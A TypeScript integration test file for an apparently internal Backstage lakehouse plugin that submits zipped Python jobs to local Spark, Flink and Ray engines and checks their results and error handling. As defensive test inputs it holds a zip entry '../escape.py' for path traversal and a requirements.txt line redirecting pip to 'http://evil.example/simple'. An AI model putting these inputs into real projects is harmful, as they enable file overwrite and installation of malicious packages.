import { GetObjectCommand } from '@aws-sdk/client-s3';
import { resolvePackagePath } from '@backstage/backend-plugin-api';
import { mockServices, startTestBackend } from '@backstage/backend-test-utils';
import type { JobState } from '@internal/plugin-lakehouse-common';
import {
  BAD_SUBMIT_INPUTS,
  expectLakehouseContract,
} from '@internal/plugin-lakehouse-common/testUtils';
import JSZip from 'jszip';
import { existsSync, mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import request from 'supertest';
import { lakehousePlugin } from '../plugin';
import {
  lakehouseTestConfig,
  localS3Client,
} from '../testUtils/lakehouseTestConfig';
import { LocalPlatform, waitFor } from '@internal/lakehouse-test-utils';

/**
 * Submissions through the plugin's API to the real local engines: the code
 * travels as a zip, is staged in the real S3 server (Spark, Flink) or Ray's
 * package store, and the apps prove they ran by writing their results.
 */
jest.setTimeout(600_000);

const APPS = resolvePackagePath(
  '@internal/plugin-lakehouse-backend',
  'src/integration/apps',
);
const platform = new LocalPlatform();
let backend: Awaited<ReturnType<typeof startTestBackend>>;
let env: Record<string, string>;
const out = mkdtempSync(join(tmpdir(), 'lakehouse-submit-it-'));
const run = Math.random().toString(36).slice(2, 8);

async function projectZip(
  entrypoint: string,
  app: string,
  extra: Record<string, string> = {},
): Promise<string> {
  const zip = new JSZip();
  zip.file(entrypoint, readFileSync(join(APPS, app)));
  for (const [path, content] of Object.entries(extra)) zip.file(path, content);
  zip.file('helpers/__init__.py', '');
  zip.file('helpers/numbers.py', readFileSync(join(APPS, 'numbers.py')));
  return (await zip.generateAsync({ type: 'nodebuffer' })).toString('base64');
}

async function submit(engine: string, body: Record<string, unknown>) {
  // The path names the engine and the instance; the body carries the rest.
  return request(backend.server)
    .post(`/api/lakehouse/jobs/${engine}/local`)
    .send(body)
    .expect(expectLakehouseContract);
}

async function finalState(engine: string, jobId: string, timeoutMs: number) {
  return waitFor(
    `${engine} job ${jobId} to end`,
    async () => {
      const res = await request(backend.server)
        .get(`/api/lakehouse/jobs/${engine}/local/${jobId}`)
        .expect(expectLakehouseContract);
      const state = res.body?.job?.state as JobState | undefined;
      return state && ['SUCCEEDED', 'FAILED', 'CANCELLED'].includes(state)
        ? state
        : undefined;
    },
    timeoutMs,
    2_000,
  );
}

/** Every job id each engine knows, read from the engines themselves (not the plugin). */
async function engineJobIds(): Promise<string[]> {
  const get = async (url: string) => (await fetch(url)).json();
  const spark = await get(`${env.SPARK_MASTER_URL}/json/`);
  const flink = await get(`${env.FLINK_REST_URL}/jobs/overview`);
  const ray = await (
    await fetch(`${env.RAY_DASHBOARD_URL}/api/jobs/`, {
      headers: { accept: 'application/json' },
    })
  ).json();
  return [
    ...[...spark.activedrivers, ...spark.completeddrivers].map(
      (d: { id: string }) => d.id,
    ),
    ...flink.jobs.map((j: { jid: string }) => j.jid),
    ...ray.map((j: { submission_id: string }) => j.submission_id),
  ].sort();
}

beforeAll(async () => {
  await platform.start(['s3', 'spark', 'flink', 'ray']);
  env = platform.env;
  backend = await startTestBackend({
    features: [
      lakehousePlugin,
      mockServices.auditor.factory(),
      mockServices.rootConfig.factory({
        data: lakehouseTestConfig(env, `it-${run}`),
      }),
    ],
  });
}, 900_000);

afterAll(async () => {
  await backend?.stop();
  await platform.stop();
}, 300_000);

describe('job submission to the local engines', () => {
  it('keeps a generated project in the object store, with a catalog URL and a download link', async () => {
    const zip = new JSZip();
    zip.file(
      'catalog-info.yaml',
      'apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: it-published\nspec:\n  type: service\n  lifecycle: experimental\n  owner: data-platform\n',
    );
    zip.file('main.py', 'print(1)\n');
    const zipBase64 = (
      await zip.generateAsync({ type: 'nodebuffer' })
    ).toString('base64');
    const res = await request(backend.server)
      .post(`/api/lakehouse/projects/it-published-${run}`)
      .send({ project: { zipBase64 } })
      .expect(201)
      .expect(expectLakehouseContract);
    expect(res.body.location).toBe(
      `s3://${env.S3_BUCKET}/it-${run}/projects/it-published-${run}/files/`,
    );
    expect(res.body.catalogInfoUrl).toMatch(
      new RegExp(`/projects/it-published-${run}/files/catalog-info.yaml$`),
    );
    const download = await fetch(res.body.downloadUrl);
    expect(download.status).toBe(200);
    const kept = await JSZip.loadAsync(await download.arrayBuffer());
    expect(Object.keys(kept.files)).toEqual(
      expect.arrayContaining(['catalog-info.yaml', 'main.py']),
    );
  });

  it('refuses to overwrite a project kept for another group, and lets its owner republish', async () => {
    const publish = async (name: string, owner: string, marker: string) => {
      const zip = new JSZip();
      zip.file(
        'catalog-info.yaml',
        `apiVersion: backstage.io/v1alpha1\nkind: Component\nmetadata:\n  name: ${name}\nspec:\n  type: service\n  lifecycle: experimental\n  owner: ${owner}\n`,
      );
      zip.file('main.py', `print('${marker}')\n`);
      const zipBase64 = (
        await zip.generateAsync({ type: 'nodebuffer' })
      ).toString('base64');
      return request(backend.server)
        .post(`/api/lakehouse/projects/${name}`)
        .send({ project: { zipBase64 } });
    };
    // The test backend's user is user:default/mock, in no group.
    const theirs = `it-theirs-${run}`;
    expect((await publish(theirs, 'fraud-team', 'first')).status).toBe(201);
    const overwrite = await publish(theirs, 'user:default/mock', 'second');
    expect(overwrite.status).toBe(409);
    expect(overwrite.body.error.message).toMatch(
      /already kept for group:default\/fraud-team, which you are not part of/,
    );
    const s3 = localS3Client(env);
    const kept = await s3.send(
      new GetObjectCommand({
        Bucket: env.S3_BUCKET,
        Key: `it-${run}/projects/${theirs}/files/main.py`,
      }),
    );
    expect(await kept.Body!.transformToString()).toBe("print('first')\n");

    const mine = `it-mine-${run}`;
    expect((await publish(mine, 'user:default/mock', 'first')).status).toBe(
      201,
    );
    expect((await publish(mine, 'user:default/mock', 'second')).status).toBe(
      201,
    );
  });

  it('runs a Spark app staged in S3 with its project zip and arguments', async () => {
    const result = join(out, 'spark.txt');
    const res = await submit('spark', {
      name: `it-spark-${run}`,
      entrypoint: 'app/spark_main.py',
      args: [result, '100'],
      resources: { executors: 1, executorMemory: '512m' },
      project: {
        zipBase64: await projectZip('app/spark_main.py', 'spark_main.py'),
      },
    });
    expect(res.status).toBe(201);
    expect(res.body.jobId).toMatch(/^driver-/);
    expect(res.body.codeLocation).toBe(
      `s3a://warehouse/it-${run}/it-spark-${run}/${
        res.body.codeLocation.split('/')[5]
      }/files/`,
    );
    expect(res.body.links[0].url).toBe(
      `http://portal.test/data-platform/spark?instance=local&job=${res.body.jobId}`,
    );
    expect(await finalState('spark', res.body.jobId, 240_000)).toBe(
      'SUCCEEDED',
    );
    expect(readFileSync(result, 'utf8')).toBe(`it-spark-${run} 5050`);
  });

  it('runs a PyFlink app as a module fetched from S3', async () => {
    const result = join(out, 'flink');
    const res = await submit('flink', {
      name: `it-flink-${run}`,
      entrypoint: 'app/flink_main.py',
      args: ['--out', result, '--n', '10'],
      resources: { parallelism: 1 },
      project: {
        zipBase64: await projectZip('app/flink_main.py', 'flink_main.py'),
      },
    });
    expect(res.status).toBe(201);
    expect(res.body.jobId).toMatch(/^[0-9a-f]{32}$/);
    // Staged in a folder named after the submission: the JobManager log names it.
    expect(res.body.codeLocation).toMatch(
      new RegExp(
        `^s3://warehouse/it-${run}/it-flink-${run}/([\\w-]+)/files-\\1/$`,
      ),
    );
    expect(await finalState('flink', res.body.jobId, 240_000)).toBe(
      'SUCCEEDED',
    );
    const csv = readdirSync(result).map(f =>
      readFileSync(join(result, f), 'utf8'),
    );
    expect(csv.join('').trim()).toBe('110,110');
  });

  it('answers a PyFlink program that fails in the JobManager with its Python traceback', async () => {
    const before = await engineJobIds();
    const res = await submit('flink', {
      name: `it-flink-fails-${run}`,
      entrypoint: 'app/flink_fails.py',
      resources: { parallelism: 1 },
      project: {
        zipBase64: await projectZip('app/flink_fails.py', 'flink_fails.py'),
      },
    });
    expect(res.status).toBe(400);
    const message: string = res.body.error.message;
    expect(message).toMatch(/Python process exits with code: 1/);
    expect(message).toMatch(
      /Traceback \(most recent call last\):[\s\S]*app\/flink_fails\.py", line \d+, in settings\n.*missing_key.*\n[\s\S]*KeyError: 'missing_key'\n/,
    );
    // The JobManager logs its whole environment just before the program's output: none of it comes along.
    expect(message).not.toMatch(/environment|AWS_|PATH=/);
    expect(await engineJobIds()).toEqual(before);
  });

  it('returns no secret of the backend when a PyFlink program prints its environment and fails', async () => {
    const secret = env.AWS_SECRET_ACCESS_KEY;
    expect(secret.length).toBeGreaterThan(7);
    const res = await submit('flink', {
      name: `it-flink-env-${run}`,
      entrypoint: 'app/flink_prints_env.py',
      resources: { parallelism: 1 },
      project: {
        zipBase64: await projectZip(
          'app/flink_prints_env.py',
          'flink_prints_env.py',
        ),
      },
    });
    expect(res.status).toBe(400);
    const message: string = res.body.error.message;
    // The program's own output is there (it is the user's to read), its credentials masked.
    expect(message).toMatch(/The program's last output \(JobManager log\)/);
    expect(message).toMatch(/'AWS_SECRET_ACCESS_KEY': '\*\*\*'/);
    expect(message).not.toContain(secret);
    expect(JSON.stringify(res.body)).not.toContain(secret);
  });

  it('runs a Ray app from its uploaded working directory, and cancels one', async () => {
    const result = join(out, 'ray.txt');
    const zipBase64 = await projectZip('ray_main.py', 'ray_main.py');
    const res = await submit('ray', {
      name: `it-ray-${run}`,
      entrypoint: 'ray_main.py',
      args: [result],
      resources: { workers: 4 },
      project: { zipBase64 },
    });
    expect(res.status).toBe(201);
    expect(res.body.codeLocation).toMatch(
      /^gcs:\/\/_ray_pkg_[0-9a-f]{16}\.zip$/,
    );
    expect(await finalState('ray', res.body.jobId, 240_000)).toBe('SUCCEEDED');
    expect(readFileSync(result, 'utf8')).toBe('4 20'); // 1 + 3 + 6 + 10

    const slow = await submit('ray', {
      name: `it-ray-cancel-${run}`,
      entrypoint: 'ray_main.py',
      args: [join(out, 'never.txt'), 'sleep=300'],
      project: { zipBase64 },
    });
    expect(slow.status).toBe(201);
    const cancel = await request(backend.server)
      .post(`/api/lakehouse/jobs/ray/local/${slow.body.jobId}/cancel`)
      .expect(expectLakehouseContract);
    expect(cancel.status).toBe(202);
    expect(await finalState('ray', slow.body.jobId, 120_000)).toBe('CANCELLED');
    expect(existsSync(join(out, 'never.txt'))).toBe(false);
  });

  it('submits nothing on a dry run or on bad input, and says what is wrong', async () => {
    const before = await engineJobIds();
    const zipBase64 = await projectZip('main.py', 'ray_main.py');
    for (const engine of ['spark', 'flink', 'ray']) {
      const dry = await submit(engine, {
        name: `it-dry-${run}`,
        entrypoint: 'main.py',
        dryRun: true,
        project: { zipBase64 },
      });
      expect(dry.status).toBe(200);
      expect(dry.body).toMatchObject({ dryRun: true, engine });
      expect(dry.body.jobId).toBeUndefined();
      expect(dry.body.plan.length).toBeGreaterThan(1);
    }
    for (const [label, input, message] of BAD_SUBMIT_INPUTS) {
      // Engine and instance travel in the path, the rest in the body, as a client sends them.
      const { engine, instance, ...body } = input;
      const res = await request(backend.server)
        .post(
          `/api/lakehouse/jobs/${encodeURIComponent(
            String(engine ?? 'none'),
          )}/${encodeURIComponent(String(instance || ' '))}`,
        )
        .send({ ...body, project: { zipBase64 } });
      expect([label, res.status]).toEqual([label, 400]);
      expect([label, res.body.error.message]).toEqual([
        label,
        expect.stringMatching(message),
      ]);
    }
    const unsafe = new JSZip();
    unsafe.file('main.py', 'print(1)');
    unsafe.file('../escape.py', 'print(2)');
    const slip = await submit('ray', {
      name: `it-slip-${run}`,
      entrypoint: 'main.py',
      project: {
        zipBase64: (
          await unsafe.generateAsync({ type: 'nodebuffer' })
        ).toString('base64'),
      },
    });
    expect(slip.status).toBe(400);
    expect(slip.body.error.message).toMatch(/unsafe path/);
    const missing = await submit('spark', {
      name: `it-missing-${run}`,
      entrypoint: 'nope.py',
      project: { zipBase64 },
    });
    expect(missing.body.error.message).toMatch(
      /entrypoint 'nope.py' is not in the project/,
    );
    expect(await engineJobIds()).toEqual(before);
  });
});

/** What a job's detail says about it (Ray: the runtime environment's failure, Spark: the driver's). */
async function jobDetail(engine: string, jobId: string) {
  const res = await request(backend.server)
    .get(`/api/lakehouse/jobs/${engine}/local/${jobId}`)
    .expect(expectLakehouseContract);
  return res.body;
}

describe('apps that bring their requirements, settings and secrets', () => {
  const missing = 'no-such-package-lakehouse-it==1.0';

  it("runs an unmodified Ray app with its requirements.txt, environment and a secret source's credentials", async () => {
    const result = join(out, 'ray-deps.json');
    const res = await submit('ray', {
      name: `it-ray-deps-${run}`,
      entrypoint: 'train.py',
      args: [result],
      env: { S3_ENDPOINT: env.S3_ENDPOINT, BUCKET: env.S3_BUCKET },
      secrets: ['warehouse-s3'],
      project: {
        zipBase64: await projectZip('train.py', 'ray_deps.py', {
          'requirements.txt': '# what the app imports\nnumpy\npandas\n',
        }),
      },
    });
    expect(res.status).toBe(201);
    expect(res.body.plan).toEqual(
      expect.arrayContaining([
        'requirements (pip): numpy, pandas (Ray runtime environment)',
        'environment: S3_ENDPOINT, BUCKET (Ray runtime environment)',
        'secrets from warehouse-s3: AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY (Ray runtime environment)',
      ]),
    );
    expect(JSON.stringify(res.body)).not.toContain(env.AWS_SECRET_ACCESS_KEY);
    expect(await finalState('ray', res.body.jobId, 420_000)).toBe('SUCCEEDED');
    expect(JSON.parse(readFileSync(result, 'utf8'))).toEqual({
      sum: 55,
      numpy: expect.stringMatching(/^\d+\.\d+/),
      pandas: expect.stringMatching(/^\d+\.\d+/),
      bucketReadable: true,
    });
  });

  it("fails a Ray job whose requirement cannot be installed, with pip's own message", async () => {
    const res = await submit('ray', {
      name: `it-ray-baddeps-${run}`,
      entrypoint: 'main.py',
      requirements: [missing],
      project: { zipBase64: await projectZip('main.py', 'ray_main.py') },
    });
    expect(res.status).toBe(201);
    expect(await finalState('ray', res.body.jobId, 240_000)).toBe('FAILED');
    const { detail } = await jobDetail('ray', res.body.jobId);
    expect(detail.message).toContain(
      `No matching distribution found for ${missing}`,
    );
  });

  it('runs a Spark app with a requirement installed for its driver and its environment on driver and executors', async () => {
    const result = join(out, 'spark-deps.txt');
    const res = await submit('spark', {
      name: `it-spark-deps-${run}`,
      entrypoint: 'app/spark_deps.py',
      args: [result],
      requirements: ['tabulate==0.9.0'],
      env: { GREETING: 'hello-spark' },
      project: {
        zipBase64: await projectZip('app/spark_deps.py', 'spark_deps.py'),
      },
    });
    expect(res.status).toBe(201);
    expect(await finalState('spark', res.body.jobId, 420_000)).toBe(
      'SUCCEEDED',
    );
    expect(readFileSync(result, 'utf8')).toBe('0.9.0 hello-spark hello-spark');
  });

  it('fails a Spark job whose requirement cannot be installed', async () => {
    const result = join(out, 'spark-never.txt');
    const res = await submit('spark', {
      name: `it-spark-baddeps-${run}`,
      entrypoint: 'app/spark_deps.py',
      args: [result],
      requirements: [missing],
      env: { GREETING: 'x' },
      project: {
        zipBase64: await projectZip('app/spark_deps.py', 'spark_deps.py'),
      },
    });
    expect(res.status).toBe(201);
    expect(await finalState('spark', res.body.jobId, 240_000)).toBe('FAILED');
    expect(existsSync(result)).toBe(false);
  });

  it('runs a PyFlink app with a requirement and its environment, and refuses secrets for a session cluster', async () => {
    const result = join(out, 'flink-deps');
    const zipBase64 = await projectZip('app/flink_deps.py', 'flink_deps.py', {
      'app/__init__.py': '',
      'requirements.txt': 'tabulate==0.9.0\n',
    });
    const res = await submit('flink', {
      name: `it-flink-deps-${run}`,
      entrypoint: 'app/flink_deps.py',
      args: ['--out', result],
      env: { GREETING: 'hello-flink' },
      project: { zipBase64 },
    });
    expect(res.status).toBe(201);
    expect(await finalState('flink', res.body.jobId, 420_000)).toBe(
      'SUCCEEDED',
    );
    const csv = readdirSync(result).map(f =>
      readFileSync(join(result, f), 'utf8'),
    );
    expect(csv.join('').trim()).toBe('0.9.0,hello-flink');

    const before = await engineJobIds();
    const secret = await submit('flink', {
      name: `it-flink-secret-${run}`,
      entrypoint: 'app/flink_deps.py',
      args: ['--out', result],
      secrets: ['warehouse-s3'],
      project: { zipBase64 },
    });
    expect(secret.status).toBe(400);
    expect(secret.body.error.message).toMatch(
      /Flink session clusters have no per-job secret channel/,
    );
    expect(await engineJobIds()).toEqual(before);
  });

  it("fails a PyFlink submission whose requirement cannot be installed, with pip's message", async () => {
    const res = await submit('flink', {
      name: `it-flink-baddeps-${run}`,
      entrypoint: 'app/flink_deps.py',
      args: ['--out', join(out, 'flink-never')],
      requirements: [missing],
      project: {
        zipBase64: await projectZip('app/flink_deps.py', 'flink_deps.py', {
          'app/__init__.py': '',
        }),
      },
    });
    expect(res.status).toBe(400);
    expect(res.body.error.message).toContain(
      `No matching distribution found for ${missing}`,
    );
  });

  it('refuses unknown secret sources and bad requirements files before anything is staged', async () => {
    const before = await engineJobIds();
    const unknown = await submit('ray', {
      name: `it-ray-unknown-secret-${run}`,
      entrypoint: 'main.py',
      secrets: ['prod-db'],
      project: { zipBase64: await projectZip('main.py', 'ray_main.py') },
    });
    expect(unknown.status).toBe(400);
    expect(unknown.body.error.message).toBe(
      "Unknown secret source 'prod-db'; declared: warehouse-s3 (lakehouse.secrets in app-config)",
    );
    const badFile = await submit('spark', {
      name: `it-spark-badfile-${run}`,
      entrypoint: 'main.py',
      project: {
        zipBase64: await projectZip('main.py', 'spark_main.py', {
          'requirements.txt': 'numpy\n--index-url http://evil.example/simple\n',
        }),
      },
    });
    expect(badFile.status).toBe(400);
    expect(badFile.body.error.message).toMatch(/requirements\.txt line 2/);
    expect(await engineJobIds()).toEqual(before);
  });
});
